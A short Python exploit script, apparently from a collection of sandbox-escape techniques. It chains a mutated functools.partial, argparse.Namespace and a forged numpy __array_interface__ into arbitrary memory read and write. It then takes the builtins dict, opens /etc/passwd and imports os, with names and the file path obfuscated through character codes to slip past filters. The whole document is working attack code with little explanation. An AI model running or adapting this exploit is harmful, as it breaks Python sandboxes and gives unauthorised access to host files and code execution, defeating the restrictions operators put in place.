# source: functools.partial docs (public, mutable .keywords dict); argparse.Namespace(**kwargs) does setattr per keyword; numpy __array_interface__ protocol
# family: runtime-named keyword arguments without a ** spread: partial.keywords mutated after creation -> Namespace gets a dunder attribute named at run time; numpy trusts the forged __array_interface__
# goal: arbitrary memory read/write -> builtins dict (func_builtins) -> open() reads /etc/passwd, __import__ -> os
import argparse
import functools
import numpy as np

u = chr(95) * 2
NAME = u + "array" + chr(95) + "interface" + u


def mem(addr):
    make = functools.partial(argparse.Namespace)
    make.keywords[NAME] = {"data": (addr, False), "shape": (1,), "typestr": "<u8", "version": 3}
    return np.asarray(make())


def rd(addr):
    return int(mem(addr)[0])


def wr(addr, val):
    mem(addr)[0] = val


def f():
    return 0


p = rd(id(f) + 24)
holder = [None]
items = rd(id(holder) + 24)
wr(p, rd(p) + 1)
wr(items, p)
b = holder[0]
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
